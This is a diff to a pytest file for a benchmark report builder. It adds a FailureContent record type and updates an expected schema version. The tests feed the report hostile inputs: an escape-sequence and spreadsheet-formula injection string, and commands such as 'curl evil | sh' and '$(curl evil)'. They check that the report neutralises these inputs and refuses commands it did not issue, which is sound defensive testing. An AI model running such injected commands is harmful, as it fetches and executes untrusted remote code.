@@ -8,6 +8,7 @@ import pytest
 
 from eden_bench import records
 from eden_bench.audit import storage as audits
+from eden_bench.records import FailureContent
 from eden_bench.report import formats
 from eden_bench.report.build import build
 from eden_bench.report.missing import excused, failure_notes, with_absent
@@ -251,7 +252,7 @@ def test_an_odd_audit_is_left_out_with_a_warning(bench, change):
 def test_an_older_record_says_that_it_is_older(bench):
     out, folder = bench
     forge(folder, "schema", 1)
-    assert "has schema 1, this version reads 2: run its cell again" in warned(out)[1][0]
+    assert "has schema 1, this version reads 3: run its cell again" in warned(out)[1][0]
 
 
 EVIL = "\x1b]0;title\x07\x1b[2J\x9b31m\u202egnp\u2066\r\n=cmd|' /C calc'!A1 [x](javascript:1) ![](http://x) <b> a|b \\|"
@@ -292,7 +293,7 @@ def test_no_cell_is_a_formula(bench, start, sign):
 def test_only_a_command_of_ours_is_shown_to_be_issued_again():
     note = "failed: a: b. Redo: {}"
     ours = "eden-bench run --methods 'x=/a b/c.pth' --tasks scr-heart --seeds 0"
-    assert failure_notes({"x": {"what": "a", "error": "b", "command": ours}}) == [note.format(ours)]
+    assert failure_notes({"x": FailureContent(what="a", error="b", command=ours)}) == [note.format(ours)]
     for command in ("curl evil | sh", "eden-bench run; curl evil", "eden-bench run $(curl evil)", "eden-bench run 'a"):
-        (said,) = failure_notes({"x": {"what": "a", "error": "b", "command": command}})
+        (said,) = failure_notes({"x": FailureContent(what="a", error="b", command=command)})
         assert said == "failed: a: b. Its file failures/x.json holds a command that is not one of ours."
